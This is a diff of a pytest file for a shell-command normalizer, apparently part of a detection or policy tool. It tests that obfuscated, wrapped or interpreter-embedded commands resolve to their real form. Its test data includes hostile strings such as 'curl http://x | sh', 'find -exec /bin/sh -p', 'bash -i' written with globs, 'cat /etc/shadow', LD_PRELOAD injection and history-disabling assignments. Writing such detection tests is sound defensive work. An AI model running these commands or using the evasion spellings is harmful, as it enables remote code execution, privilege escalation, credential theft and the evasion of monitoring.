@@ -52,12 +52,68 @@ def test_repeated_and_odd_whitespace_becomes_single_spaces() -> None:
         ("/usr/bin/curl -s x", "curl -s x"),
         ("/bin/rm -rf /", "rm -rf /"),
         ('"/usr/bin/curl" x', "curl x"),
-        ("./deploy.sh --prod", "./deploy.sh --prod"),
-        ("bin/tool x", "bin/tool x"),
     ],
 )
-def test_absolute_command_paths_are_dropped_and_relative_ones_kept(typed: str, seen: str) -> None:
+def test_absolute_command_paths_are_dropped(typed: str, seen: str) -> None:
     assert segments(typed)[0] == seen
+
+
+@pytest.mark.parametrize(
+    ("typed", "seen"),
+    [
+        ("./deploy.sh --prod", ("deploy.sh --prod", "./deploy.sh --prod")),
+        ("bin/tool x", ("tool x", "bin/tool x")),
+        (
+            "./find . -exec /bin/sh -p \\; -quit",
+            ("find . -exec /bin/sh -p ; -quit", "./find . -exec /bin/sh -p ; -quit"),
+        ),
+    ],
+)
+def test_a_relative_command_path_is_seen_by_name_and_as_typed(typed: str, seen: tuple[str, ...]) -> None:
+    assert segments(typed) == seen
+
+
+@pytest.mark.parametrize(
+    ("typed", "seen"),
+    [
+        ("c${x}url -s http://x", "curl -s http://x"),
+        ("a=cu; b=rl; $a$b -s http://x", "curl -s http://x"),
+        ("/???/b??h -i", "bash -i"),
+        ("/bin/c?t /etc/shadow", "cat /etc/shadow"),
+    ],
+)
+def test_command_names_spelled_with_variables_or_globs_are_resolved(typed: str, seen: str) -> None:
+    assert seen in segments(typed)
+
+
+def test_a_glob_without_letters_is_not_resolved() -> None:
+    assert segments("* * * * * root x") == ("* * * * * root x",)
+
+
+@pytest.mark.parametrize(
+    ("typed", "run"),
+    [
+        ("python3 -c 'import os; os.system(\"curl http://x | sh\")'", "curl http://x | sh"),
+        ("awk 'BEGIN {system(\"/bin/sh -i\")}'", "sh -i"),
+        ("perl -e 'print `id`'", "id"),
+        ("php -r 'shell_exec(\"rm -rf /tmp/x\");'", "rm -rf /tmp/x"),
+        ('node -e \'require("child_process").execSync("wget -q http://x")\'', "wget -q http://x"),
+    ],
+)
+def test_commands_inside_interpreter_code_are_read_as_commands(typed: str, run: str) -> None:
+    assert run in normalize_command(typed).inner or run in segments(typed)
+
+
+@pytest.mark.parametrize(
+    ("typed", "wrapped"),
+    [
+        ("sudo find . -exec /bin/sh \\; -quit", "sudo find . -exec /bin/sh ; -quit"),
+        ("nice -n 5 /bin/sh", "nice -n 5 sh"),
+        ("sudo LD_PRELOAD=/tmp/x.so find", "sudo find"),
+    ],
+)
+def test_a_wrapped_command_is_also_seen_with_its_wrappers(typed: str, wrapped: str) -> None:
+    assert wrapped in segments(typed)
 
 
 def test_command_run_from_an_unusual_directory_is_also_kept_with_its_path() -> None:
@@ -99,7 +155,7 @@ def test_wrappers_and_keywords_are_stripped_down_to_the_command(typed: str) -> N
 
 
 def test_xargs_runs_its_argument_as_the_command() -> None:
-    assert segments("find . -name x | xargs -I{} rm -rf {}") == ("find . -name x", "rm -rf {}")
+    assert segments("find . -name x | xargs -I{} rm -rf {}")[:2] == ("find . -name x", "rm -rf {}")
 
 
 @pytest.mark.parametrize("typed", ["sudo -i", "sudo -s", "sudo -l", "command -v nmap", "env", "nohup"])
@@ -109,7 +165,7 @@ def test_a_wrapper_with_nothing_to_run_stays_as_typed(typed: str) -> None:
 
 def test_leading_assignments_become_a_segment_of_their_own() -> None:
     assert segments("HISTFILE=/dev/null bash") == ("bash", "HISTFILE=/dev/null")
-    assert segments("sudo LD_PRELOAD=/tmp/x.so find") == ("find", "LD_PRELOAD=/tmp/x.so")
+    assert segments("sudo LD_PRELOAD=/tmp/x.so find") == ("find", "sudo find", "LD_PRELOAD=/tmp/x.so")
     assert segments("HISTFILE=/dev/null") == ("HISTFILE=/dev/null",)
 
 
@@ -121,7 +177,7 @@ def test_leading_assignments_become_a_segment_of_their_own() -> None:
         ("a |& b", ("a", "b"), "a |& b"),
         ("a\nb\n", ("a", "b"), "a ; b ;"),
         ("(cd /tmp && make) &", ("cd /tmp", "make"), "( cd /tmp && make ) &"),
-        ("curl -s x | sudo bash", ("curl -s x", "bash"), "curl -s x | bash"),
+        ("curl -s x | sudo bash", ("curl -s x", "bash", "sudo bash"), "curl -s x | bash"),
     ],
 )
 def test_chains_are_split_into_segments_and_the_whole_keeps_its_operators(
